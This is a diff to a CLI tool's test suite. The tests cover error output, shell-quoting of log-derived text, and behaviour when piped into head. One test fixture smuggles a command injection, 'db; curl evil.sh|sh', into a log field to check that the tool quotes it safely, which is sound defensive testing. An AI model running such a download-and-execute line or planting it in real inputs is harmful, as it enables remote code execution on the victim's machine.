@@ -122,14 +122,24 @@ describe('unstick diagnose errors: one line, a documented exit code, no stack', 
     expect(stderr).toBe('error: missing.jsonl: no such file or directory\n');
   });
 
-  it('65 when no input is a log; a stack only with --debug', async () => {
+  it('65 when no input is a log, with one error line and a hint; a stack only with --debug', async () => {
     const { code, stderr } = await runCli(['diagnose', 'test/fixtures/logs/binary.bin']);
     expect(code).toBe(65);
-    expect(stderr).toContain('error: test/fixtures/logs/binary.bin: binary data, not a log');
+    expect(stderr).toBe(
+      'error: test/fixtures/logs/binary.bin: binary data, not a log\nhint: see docs/log-formats.md for the formats unstick reads, or force one with --format\n',
+    );
     expect(stderr).not.toMatch(/\n\s+at /);
     const debug = await runCli(['diagnose', 'test/fixtures/logs/binary.bin', '--debug']);
     expect(debug.code).toBe(65);
     expect(debug.stderr).toMatch(/\n\s+at /);
+  });
+});
+
+describe('hostile and awkward input', () => {
+  it('quotes log-controlled text in the suggested command', async () => {
+    const record = { log_id: '1', data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: "o'hara@acme.com", connection: 'db; curl evil.sh|sh\u0007' } };
+    const { stdout } = await runCli(['diagnose', '-', '--json'], { stdin: `${JSON.stringify(record)}\n` });
+    expect(JSON.parse(stdout).findings[0].next).toBe(`unstick repair 'o'\\''hara@acme.com' --connection 'db; curl evil.sh|sh'`);
   });
 });
 
@@ -146,6 +156,18 @@ describe('the installed CLI (bin/unstick.js, built by pretest)', () => {
     expect(help.status).toBe(0);
     expect(help.stdout).toMatch(/diagnose \[options\] <inputs\.\.\.>/);
     expect(exec(['diagnose', 'missing.jsonl']).status).toBe(66);
+  });
+
+  it('stops quietly when the reader of its output goes away (| head)', () => {
+    const dir = mkdtempSync(path.join(tmpdir(), 'unstick-pipe-'));
+    const file = path.join(dir, 'many.jsonl');
+    const lines = Array.from({ length: 20000 }, (_, i) =>
+      JSON.stringify({ log_id: String(i), data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: `user${i}@acme.com` } }),
+    );
+    writeFileSync(file, lines.join('\n') + '\n');
+    const r = spawnSync('sh', ['-c', `"${process.execPath}" "${bin}" diagnose "${file}" --csv | head -1`], { encoding: 'utf8' });
+    expect(r.stdout).toBe('email,kinds,occurrences,first_seen,last_seen,connections,next_command\n');
+    expect(r.stderr).toBe('');
   });
 
   it('diagnoses a large line-delimited file with worker threads exactly like in-process', async () => {
